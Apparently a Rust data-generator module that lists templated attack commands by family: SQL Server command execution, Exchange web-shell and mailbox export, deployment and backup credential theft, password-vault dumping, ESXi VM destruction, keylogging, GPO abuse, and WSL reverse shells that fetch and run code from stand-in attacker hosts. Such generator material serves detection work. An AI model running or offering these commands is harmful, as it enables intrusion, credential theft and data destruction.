//! Attacks on services and products: databases, Exchange, deployment, backup,
//! hypervisors, password managers; each with its own credentials to take.

use crate::generate::family::{Family, Kind::Cmd, Kind::Code, Kind::Ps, Kind::Sh};

pub const FAMILIES: &[Family] = &[
    Family::other("sql-attack", "sql-attack", Code, &[
        "EXEC «master..¦master.dbo.¦»xp_cmdshell '{c}'«;»",
        concat!(
            "EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; ",
            "RECONFIGURE; EXEC xp_cmdshell '{c}'",
        ),
        "EXEC ('xp_cmdshell ''{c}''') AT [{plainhost}]",
        r"EXEC «master..»xp_dirtree '\\{attacker}\{share}'; EXEC xp_fileexist '\\{attacker}\{share}\{stem}'",
        concat!(
            "select «name, password_hash from sys.sql_logins¦user, authentication_string from ",
            "mysql.user¦usename, passwd from pg_shadow¦name, spare4 from sys.user$¦* from ",
            "openquery([{plainhost}], 'select @@version')¦SYSTEM_USER, IS_SRVROLEMEMBER('sysadmin')»",
        ),
        "DECLARE @s INT; EXEC sp_oacreate 'wscript.shell', @s OUT; EXEC sp_oamethod @s, 'run', NULL, '{c}'",
        "COPY (select '') TO PROGRAM '{c}'; COPY {stem} FROM PROGRAM 'id'",
        concat!(
            "' UNION SELECT «table_name,2,3 FROM information_schema.tables¦username,password,3 FROM ",
            "users¦1,@@version,3»-- -",
        ),
        concat!(
            r"EXEC xp_«regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\Microsoft\Windows ",
            r"NT\CurrentVersion\Winlogon', N'DefaultPassword'¦regread 'HKEY_LOCAL_MACHINE', ",
            r"'SYSTEM\CurrentControlSet\Services\{svcname}', 'ObjectName'¦regwrite ",
            r"'HKEY_LOCAL_MACHINE','SOFTWARE\Microsoft\Windows\CurrentVersion\Run','{stem}','REG_SZ','{stem}.e",
            "xe'»",
        ),
        "EXECUTE AS LOGIN = '{user}'; SELECT * FROM fn_my_permissions(NULL, 'SERVER')",
        "CREATE ASSEMBLY {alnum6} FROM 0x{hex40} WITH PERMISSION_SET = UNSAFE",
        concat!(
            r"select load_file('\\\\{attacker}\\{stem}'); select sys_eval('id'); select lo_export(16400, ",
            "'/tmp/{stem}.so')",
        ),
    ])
    .slots(&[
        ("c", concat!(
                "«whoami¦net user {user} {password} /add¦powershell -enc {b64_60}¦certutil -urlcache -f {url} ",
                r"{stem}.exe¦dir C:\Users¦reg query HKLM\{softkey}¦ipconfig /all¦copy {otherfile} {outfile}»",
            )),
    ])
    .weight(6),
    Family::other("exchange-attack", "exchange-attack", Ps, &[
        concat!(
            r##"New-MailboxExportRequest -Mailbox {user} -«IncludeFolders "#Drafts#" -ContentFilter "(Subject "##,
            r#"-eq '{alnum6}')" »-FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\{alnum6}.aspx""#,
        ),
        concat!(
            "Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl 'http://f/<script ",
            r#"language="JScript" runat="server">function Page_Load(){eval(Request["{alnum4}"],"unsafe");}</scr"#,
            "ipt>'",
        ),
        "Add-MailboxPermission -Identity {user} -User {user} -AccessRights FullAccess -InheritanceType All",
        "New-ManagementRoleAssignment -Role '«ApplicationImpersonation¦Mailbox Import Export»' -User {user}",
        "New-TransportRule -Name {stem} -BlindCopyTo {first}@{domain} -SubjectContainsWords '{stem}'",
        concat!(
            "Get-«GlobalAddressList -ExchHostname {fqdn} -UserName {user} -Password {password}¦Mailbox ",
            "-ResultSize Unlimited | Search-Mailbox -SearchQuery password -EstimateResultOnly¦ExchangeServer ",
            "| select Name, AdminDisplayVersion¦InboxRule -Mailbox {user}»",
        ),
        concat!(
            "Invoke-«PasswordSprayEWS -ExchHostname {fqdn} -UserList {stem}.txt -Password ",
            "{password}¦DomainHarvestOWA -ExchHostname {fqdn}¦UsernameHarvestEAS -ExchHostname {fqdn} ",
            "-UserList {stem}.txt¦OpenOWAMailboxInBrowser»",
        ),
        "Set-CASMailbox {user} -ActiveSyncAllowedDeviceIDs {alnum16}; Set-Mailbox {user} -AuditEnabled $false",
        concat!(
            "Set-AdminAuditLogConfig -AdminAuditLogEnabled $false; Remove-MailboxExportRequest ",
            r"{user}\MailboxExport -Confirm:$false",
        ),
    ])
    .weight(5),
    Family::other("deployment-attack", "deployment-attack", Cmd, &[
        concat!(
            r#"SharpSCCM.exe «local «secrets -m wmi¦secrets -m disk¦naa¦user-sid¦query "SELECT * FROM "#,
            r#"SMS_Authority"»¦exec -p {stem}.exe -d {plainhost} -sms {fqdn} -sc {alnum3}¦get «collections¦naa "#,
            "-r newdevice -u {plainhost}$ -p {password}¦primary-users -u {user}»¦invoke client-push -t ",
            "{attacker}»",
        ),
        concat!(
            "MalSCCM.exe «locate¦inspect /all¦group /create /groupname:{stem} /grouptype:device¦app /create ",
            r#"/name:{stem} /uncpath:"\\{attacker}\{share}\{stem}.exe"¦checkin /groupname:{stem}»"#,
        ),
        concat!(
            r#"SharpWSUS.exe «locate¦inspect¦create /payload:"{dir}\PsExec64.exe" /args:"-accepteula -s -d "#,
            r#"cmd.exe /c {stem}" /title:"{stem}"¦approve /updateid:{guid} /computername:{fqdn} "#,
            r#"/groupname:"{stem}"»"#,
        ),
        concat!(
            r"wmic /namespace:\\root\ccm\policy\Machine\ActualConfig path CCM_NetworkAccessAccount get ",
            "NetworkAccessUsername,NetworkAccessPassword",
        ),
        concat!(
            r#"powershell "Get-WmiObject -Namespace root\ccm\policy\Machine\ActualConfig -Class "#,
            r#"CCM_NetworkAccessAccount""#,
        ),
        concat!(
            r#"cmd /c "C:\Windows\CCM\{stem}.exe & reg query HKLM\SOFTWARE\Microsoft\SMS\«Identification¦DP¦Mob"#,
            r#"ile Client»""#,
        ),
        r#"sqlcmd -S {host} -d VeeamBackup -Q "SELECT user_name, password FROM dbo.Credentials""#,
        r#"reg query "HKLM\SOFTWARE\Veeam\Veeam Backup and Replication" /v SqlServerName"#,
        concat!(
            "«SharpVeeamDecryptor.exe¦veeampot.py {host}¦Veeam-Get-Creds.ps1¦vcenter_saml_login.py -p ",
            "data.mdb -t {ip}»",
        ),
        r#""C:\Program Files\ManageEngine\{product}\{stem}.bat" & type "C:\ProgramData\{vendor}\{stem}.config""#,
        r"SharpGPO.exe --action GetGPO & pushd \\{fqdn}\SYSVOL & findstr /s /i cpassword *.xml",
        concat!(
            r"copy «\\{host}\REMINST\SMSTemp\{stem}.boot.var¦\\{host}\DeploymentShare$\Control\CustomSettings.",
            r"ini¦\\{host}\SCCMContentLib$\DataLib\{stem}» {outfile}",
        ),
        r"PDQInventory.exe GetAllComputers & type C:\ProgramData\Admin Arsenal\{stem}.db",
    ])
    .weight(6),
    Family::other("password-managers", "password-managers", Cmd, &[
        concat!(
            r"«copy¦xcopy /y» «C:\Users\{user}\Documents\{stem}.kdbx¦%APPDATA%\KeePass\KeePass.config.xml¦%Loc",
            r#"alAppData%\1Password\data\{stem}.sqlite¦%APPDATA%\Bitwarden\data.json¦"%LocalAppData%\LastPass\{"#,
            r#"stem}.db"¦%APPDATA%\RoboForm\{stem}.rfp¦%APPDATA%\Dashlane\profiles\{stem}¦\\{host}\{share}\pass"#,
            r"words.xlsx¦%APPDATA%\mRemoteNG\confCons.xml¦%APPDATA%\Code\User\globalStorage\state.vscdb» ",
            "{outdir}",
        ),
        "KeeTheft.exe & KeeFarce.exe & KeeThief.ps1",
        "keepass2john.exe {stem}.kdbx > {outfile} & hashcat -m 13400 {outfile} rockyou.txt",
        r"keepass_dump.exe -f {dir}\KeePass.dmp --skip --debug",
        concat!(
            "procdump64 -accepteula -ma «KeePass.exe¦1Password.exe¦Bitwarden.exe¦chrome.exe¦mstsc.exe¦outlook",
            r".exe¦Teams.exe» {dir}\{stem}.dmp",
        ),
        "mremoteng_decrypt.py -s {b64_80} & mremoteng-decrypt.exe -f confCons.xml",
        concat!(
            "«bw¦op¦lpass¦pass¦keepassxc-cli» «list items --search {stem}¦unlock {password}¦export --format ",
            "json --output {stem}.json¦show {stem}¦ls¦get item {stem}¦db-info {stem}.kdbx»",
        ),
        r#"reg query "HKCU\Software\Mobatek\MobaXterm" /s & reg export HKCU\Software\Mobatek {outfile}"#,
        concat!(
            r#"reg export "HKCU\Software\Martin Prikryl\WinSCP 2\Sessions" {outfile} & winscppasswd.exe {host} "#,
            "{user} {hex40}",
        ),
        "SharpKeys.exe & VNCPassView.exe /stext {stem}.txt & vncpwd.exe {hex16}",
        r"DecryptTeamViewer.exe & reg query HKLM\SOFTWARE\WOW6432Node\TeamViewer /v SecurityPasswordAES",
        concat!(
            r#"type "%APPDATA%\FileZilla\«sitemanager¦recentservers».xml" & type "%ProgramData%\FileZilla "#,
            r#"Server\settings.xml""#,
        ),
    ])
    .weight(6),
    Family::other("hypervisor-attack", "hypervisor-attack", Sh, &[
        concat!(
            "esxcli «vm process list¦vm process kill --type=force --world-id={pid}¦system account add -i ",
            "{user} -p {password} -c {password}¦network firewall set --enabled false¦system syslog config ",
            "set --loghost=¦storage filesystem list¦software vib install -v /tmp/{stem}.vib --force¦vsan ",
            "debug object list¦system shutdown poweroff -r {stem}»",
        ),
        concat!(
            "vim-cmd «vmsvc/getallvms¦vmsvc/power.off {1..90}¦vmsvc/snapshot.removeall ",
            "{1..90}¦vmsvc/snapshot.create {1..90} {stem}¦hostsvc/enable_ssh¦hostsvc/autostartmanager/enable_",
            "autostart 0¦vmsvc/device.getdevices {1..90}»",
        ),
        concat!(
            "for i in $(esxcli vm process list | grep 'World ID' | awk '{print $3}'); do esxcli vm process ",
            "kill -t=force -w=$i; done",
        ),
        "chmod +x /tmp/{stem}; /tmp/{stem} /vmfs/volumes -«e¦p {password}¦t {1..90}»",
        concat!(
            "cp /vmfs/volumes/{stem}/{plainhost}/{plainhost}.vmdk {shdir}; scp ",
            "root@{ip}:/vmfs/volumes/{stem}/{plainhost}/{plainhost}-Snapshot{1..9}.vmem {shdir}",
        ),
        concat!(
            "cat /etc/vmware/«esx.conf¦vpxa/vpxa.cfg¦hostd/config.xml»; /usr/lib/vmware-vmafd/bin/vmafd-cli ",
            "get-domain-name --server-name localhost",
        ),
        concat!(
            "{python} vcenter_saml_login.py -t {ip} -p {shdir}/data.mdb; /usr/lib/vmware-vmafd/bin/vecs-cli ",
            "entry list --store TRUSTED_ROOTS",
        ),
        concat!(
            "govc «vm.info -e {plainhost}¦vm.power -off {plainhost}¦guest.run -vm {plainhost} -l ",
            "{user}:{password} cmd /c whoami¦datastore.download {stem}/{plainhost}.vmdk ",
            "{shdir}/{stem}.vmdk¦snapshot.create -vm {plainhost} {stem}»",
        ),
        "qemu-nbd -c /dev/nbd0 {stem}.qcow2; mount /dev/nbd0p2 /mnt; cp /mnt/Windows/NTDS/ntds.dit {shdir}",
        r"volumiser.exe --image {stem}.vmdk --command extract --path \Windows\NTDS\ntds.dit",
        "Get-VM | Checkpoint-VM; Export-VM -Name {plainhost} -Path {dir}",
    ])
    .weight(5),
    Family::other("keylog-capture", "keylog-capture", Cmd, &[
        concat!(
            r"«keylogger¦klog¦refog¦spyrix¦{stem}»«64».exe «-o {dir}\{stem}.log¦/hide ",
            r"/log:{dir}\{stem}.txt¦--interval {1..90} --out {outfile}¦-install -silent»",
        ),
        concat!(
            r#"powershell -w hidden -c "Import-Module .\Get-Keystrokes.ps1; Get-Keystrokes -LogPath "#,
            r#"{dir}\{stem}.txt""#,
        ),
        concat!(
            r"«HookPasswordChange.dll¦SSPInstall.exe {dir}\{stem}.dll¦NPPSpy.exe ",
            "/install¦mimilib.dll¦PasswordFilter.exe /add {stem}.dll»",
        ),
        concat!(
            r"copy {dir}\«NPPSPY¦mimilib¦{stem}».dll C:\Windows\System32\ & reg add ",
            r"HKLM\SYSTEM\CurrentControlSet\Services\{stem}\NetworkProvider /v ProviderPath /t REG_EXPAND_SZ ",
            r#"/d "%SystemRoot%\System32\{stem}.dll" /f"#,
        ),
        concat!(
            r#"reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v "Notification Packages" /t REG_MULTI_SZ /d "#,
            r#""scecli\0{stem}" /f & shutdown /r /t 0"#,
        ),
        r"type C:\Windows\System32\«mimilsa.log¦kiwissp.log¦{stem}.log»",
        r#"ffmpeg -f «gdigrab -i desktop¦dshow -i audio="Microphone"» -t {10..900} {dir}\{stem}.«mp4¦wav»"#,
        concat!(
            r"netsh trace «start capture=yes scenario=netconnection tracefile={dir}\{stem}.etl ",
            r"maxsize=512¦stop» & etl2pcapng.exe {dir}\{stem}.etl {stem}.pcapng",
        ),
        concat!(
            r#"tshark.exe -i {1..9} -Y "«ntlmssp¦http.authbasic¦ftp.request.command == PASS¦kerberos»" -w "#,
            "{stem}.pcapng",
        ),
        r#"FakeLogonScreen.exe & SharpLocker.exe & CredPrompt.exe "{vendor}""#,
        "Inveigh.exe -«Sniffer Y -LLMNR Y¦SpooferIP {ip} -HTTP N¦FileOutput Y -FileDirectory {dir}»",
        r"rundll32 {dir}\{stem}.dll,StartHook & tasklist /m {stem}.dll",
    ])
    .weight(5),
    Family::other("web-shell", "web-shell-commands", Sh, &[
        concat!(
            "curl -s «-k »'https://{fqdn}/«aspnet_client¦uploads¦images¦owa/auth»/{alnum6}.«aspx¦php¦jsp»' ",
            "«-d 'cmd={c}'¦--data-urlencode 'c={c}'¦-H 'X-Cmd: {c}'»",
        ),
        "curl 'http://{rhost}/{stem}.«php¦aspx¦jsp»?«cmd¦c¦exec¦q»={c}'",
        "{python} exploit.py -t https://{fqdn} -c '{c}'",
        concat!(
            "{python} «proxyshell¦proxylogon¦log4shell¦struts¦confluence¦moveit».py -u https://{fqdn} «-e ",
            "{user}@{domain} ¦»--cmd '{c}'",
        ),
        "weevely http://{rhost}/{stem}.php {password} '{c}'",
        r#"wget -qO- "http://{rhost}/cgi-bin/{stem}.sh?{c}""#,
        r#"sqlmap -u "http://{rhost}/{stem}?id=1" --os-cmd '{c}' --batch"#,
    ])
    .slots(&[
        ("c", concat!(
                r"«whoami¦id¦ipconfig /all¦net user¦type C:\inetpub\wwwroot\web.config¦dir C:\Users¦cat ",
                "/etc/passwd¦powershell -enc {b64_60}¦certutil -urlcache -f {url} {stem}.exe¦tasklist¦reg query ",
                r"HKLM\{softkey}¦ls -la /var/www¦appcmd list apppool /text:*¦curl {url} | sh¦quser»",
            )),
    ])
    .weight(5),
    Family::other("group-policy-attack", "group-policy-attack", Cmd, &[
        concat!(
            "SharpGPOAbuse.exe --Add«LocalAdmin --UserAccount {user}¦UserRights --UserRights ",
            r#""SeTakeOwnershipPrivilege,SeRemoteInteractiveLogonRight" --UserAccount {user}¦UserScript "#,
            r#"--ScriptName {stem}.bat --ScriptContents "{dir}\{stem}.exe"» --GPOName "{stem}""#,
        ),
        r"copy {dir}\{stem}.exe \\{fqdn}\SYSVOL\{domain}\scripts\ & gpupdate /force",
        r"echo {dir}\{stem}.exe >> \\{fqdn}\NETLOGON\«logon¦{stem}».bat",
        concat!(
            r#"powershell "New-GPO -Name {stem} | New-GPLink -Target 'DC={company},DC=com'; "#,
            r"Set-GPPrefRegistryValue -Name {stem} -Context Computer -Action Create -Key 'HKLM\{softkey}' ",
            r#"-ValueName {stem} -Type String -Value {stem}.exe""#,
        ),
        r"xcopy {dir}\{stem} \\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}}\Machine\Scripts\Startup\ /y",
        r"for /f %c in (computers.txt) do psexec \\%c -d gpupdate /force",
        r"icacls \\{fqdn}\SYSVOL\{domain}\Policies\{{GUID}} /grant {domain}\{user}:(OI)(CI)F",
        r#"GPOddity.py & pyGPOAbuse.py {domain}/{user}:{password} -gpo-id "{guid}" -command "{stem}.exe""#,
        r#"findstr /s /i "cpassword" \\{fqdn}\SYSVOL\{domain}\Policies\*.xml"#,
    ])
    .weight(5),
    Family::other("wsl", "wsl-other-os", Cmd, &[
        concat!(
            r#"wsl«.exe» «-e ¦-u root ¦-- ¦»«cat /etc/shadow¦bash -c "curl {url} | sh"¦nc {attacker} {port} -e "#,
            "/bin/bash¦ls -la /mnt/c/Users¦cp /mnt/c/Windows/NTDS/ntds.dit /tmp¦cp ",
            "/mnt/c/Users/{user}/Documents/{stem}.docx /tmp¦python3 -m http.server {port}¦nmap -sV ",
            "{ip}¦impacket-secretsdump -just-dc {domain}/{user}@{ip}¦ssh {user}@{host}¦whoami»",
        ),
        concat!(
            r#"bash -c "«cat /etc/passwd¦./{stem}.sh¦tar czf /tmp/{stem}.tgz /mnt/c/Users/{user}¦curl -T "#,
            r#"/mnt/c/{stem}/{stem}.zip {url}¦grep -ri password /mnt/c/inetpub»""#,
        ),
        "wsl --import {stem} {dir} {stem}.tar & wsl -d {stem} /{stem}",
        concat!(
            r#""C:\Program Files\Git\bin\bash.exe" -c "«grep -rn password /c/Users/{user}¦curl -s {url} -o "#,
            r#"{stem}¦ssh -R {port}:localhost:3389 {user}@{attacker}¦tar cf {stem}.tar /c/{stem}»""#,
        ),
        concat!(
            r#"C:\cygwin64\bin\«bash.exe --login -c "{stem}.sh"¦regtool.exe list /HKLM/SOFTWARE¦mkpasswd.exe "#,
            "-l -d¦getent.exe passwd {user}¦rsync.exe -a /cygdrive/c/{stem} {host}::{share}»",
        ),
        concat!(
            r#""C:\Program Files\Oracle\VirtualBox\VBoxManage.exe" «startvm {stem} --type headless¦list "#,
            "vms¦guestcontrol {stem} run --exe cmd.exe -- /c whoami¦sharedfolder add {stem} --name c ",
            r"--hostpath C:\»",
        ),
        concat!(
            "qemu-system-x86_64.exe -m {256..4096} -hda {stem}.qcow2 -netdev ",
            "user,id=n1,hostfwd=tcp::{port}-:22 -nographic",
        ),
    ])
    .weight(5),
];
